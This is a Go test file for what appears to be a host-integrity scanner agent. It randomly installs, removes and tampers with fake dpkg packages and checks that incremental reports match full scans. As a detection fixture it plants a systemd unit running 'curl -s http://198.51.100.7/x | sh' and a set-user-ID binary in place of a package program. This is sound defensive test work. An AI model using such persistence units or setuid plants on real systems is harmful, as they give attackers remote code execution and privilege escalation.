package agent

import (
	"crypto/md5"
	"fmt"
	"maps"
	"math/rand/v2"
	"os"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"picket/scanner"
	"picket/scanner/facts"
)

// changing is a small system of which a test changes parts at random.
type changing struct {
	t        *testing.T
	root     string
	random   *rand.Rand
	versions map[string]int
}

func (c *changing) program(name string) string {
	return fmt.Sprintf("\x7fELF %s %d", name, c.versions[name])
}

// install writes what dpkg keeps of a package, and its program.
func (c *changing) install(name string, version int) {
	c.versions[name] = version
	replace(c.t, c.root, "/usr/bin/"+name, c.program(name))
	replace(c.t, c.root, "/var/lib/dpkg/info/"+name+".list", "/.\n/usr\n/usr/bin\n/usr/bin/"+name+"\n")
	replace(c.t, c.root, "/var/lib/dpkg/info/"+name+".md5sums", fmt.Sprintf("%x  usr/bin/%s\n", md5.Sum([]byte(c.program(name))), name))
}

// remove leaves the program of some packages behind, which then nobody owns.
func (c *changing) remove(name string) {
	delete(c.versions, name)
	for _, file := range []string{"/var/lib/dpkg/info/" + name + ".list", "/var/lib/dpkg/info/" + name + ".md5sums"} {
		c.take(file)
	}
	if c.random.IntN(2) == 0 {
		c.take("/usr/bin/" + name)
	}
}

func (c *changing) take(file string) {
	if err := os.RemoveAll(c.root + file); err != nil {
		c.t.Fatal(err)
	}
}

// status writes the database as the packages are.
func (c *changing) status() {
	var b strings.Builder
	for _, name := range slices.Sorted(maps.Keys(c.versions)) {
		b.WriteString(stanza(name, fmt.Sprintf("1.%d-1", c.versions[name])))
	}
	replace(c.t, c.root, "/var/lib/dpkg/status", b.String())
}

// tamper puts somebody else's program, set-user-ID, in the place of a package's.
func (c *changing) tamper(name string) {
	replace(c.t, c.root, "/usr/bin/"+name, "\x7fELF planted")
	if err := os.Chmod(c.root+"/usr/bin/"+name, 0o4755); err != nil {
		c.t.Fatal(err)
	}
}

func (c *changing) plant(unit string) {
	replace(c.t, c.root, "/etc/systemd/system/"+unit+".service", "[Service]\nExecStart=/bin/sh -c 'curl -s http://198.51.100.7/x | sh'\n[Install]\nWantedBy=multi-user.target\n")
}

func (c *changing) change() {
	name := fmt.Sprintf("package-%d", c.random.IntN(12))
	switch c.random.IntN(7) {
	case 0, 1, 2:
		c.install(name, c.random.IntN(4))
	case 3:
		c.remove(name)
	case 4:
		c.tamper(name)
	case 5:
		c.plant(name)
	case 6:
		c.take("/etc/systemd/system/" + name + ".service")
	}
	c.status()
}

// TestLooksAgreeWithTheWhole changes packages, programs and units at random, has the changes told and
// what hangs on them judged as the agent does, and holds the report against that of a scan of all.
func TestLooksAgreeWithTheWhole(t *testing.T) {
	t.Parallel()
	b := newBench(t, smallSystem(t, 0))
	b.config.Digests = string(scanner.DigestsAll)
	c := &changing{t, b.root, rand.New(rand.NewPCG(7, 11)), map[string]int{}}
	for i := range 8 {
		c.install(fmt.Sprintf("package-%d", i), 0)
	}
	c.status()
	d, err := newDaemon(b.machine)
	if err != nil {
		t.Fatal(err)
	}
	now := time.Now()
	d.judging.now = func() time.Time { return now } // ages are the same in both
	d.arrive()
	defer d.leave(nil)
	crit := d.set.Load().criteria
	if _, err := d.scanWhole(t.Context(), "first", crit); err != nil {
		t.Fatal(err)
	}
	dev, err := d.open(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	plan := planWatches(dev.FS(), "linux", d.judging.collectors, maxWatched)
	closeDevice(dev)
	tables := plan.withDependents(append(plan.touched(plan.byReal["/etc/systemd/system"], "x.service"), "packages"))
	rules := map[string]bool{}
	c.tamper("package-1")
	c.tamper("nobodys")
	c.plant("package-1")
	for round := range 6 {
		for range 1 + c.random.IntN(4) {
			c.change()
			if c.random.IntN(2) == 0 { // in the middle of more
				if err := d.inventory(t.Context()); err != nil {
					t.Fatal(err)
				}
			}
		}
		if err := d.inventory(t.Context()); err != nil {
			t.Fatal(err)
		}
		if err := d.lookNow(t.Context(), tables); err != nil {
			t.Fatal(err)
		}
		d.rest()
		whole := &judging{open: d.judging.open, collectors: d.judging.collectors, now: d.judging.now, meter: d.judging.meter}
		o, err := whole.whole(t.Context(), crit)
		if err != nil {
			t.Fatal(err)
		}
		got, want := inOrder(t, d.judging.report()), inOrder(t, o.report)
		for _, part := range []string{"level", "packages", "findings", "coverage"} {
			if !reflect.DeepEqual(got[part], want[part]) {
				t.Fatalf("round %d: the %s are\n%v, in truth\n%v", round, part, got[part], want[part])
			}
		}
		for _, f := range o.report.Findings {
			rules[f.Rule] = true
		}
	}
	if len(rules) < 3 {
		t.Errorf("only %v were found: this shows less than it should", rules)
	}
}

// inOrder is a report as JSON, its packages in order.
func inOrder(t *testing.T, r *scanner.Report) map[string]any {
	t.Helper()
	sorted := *r
	list := slices.Clone(packagesOf(r))
	slices.SortFunc(list, func(a, b facts.Package) int { return strings.Compare(a.ID+" "+a.Scope, b.ID+" "+b.Scope) })
	sorted.Packages = list
	return asJSON(t, &sorted)
}
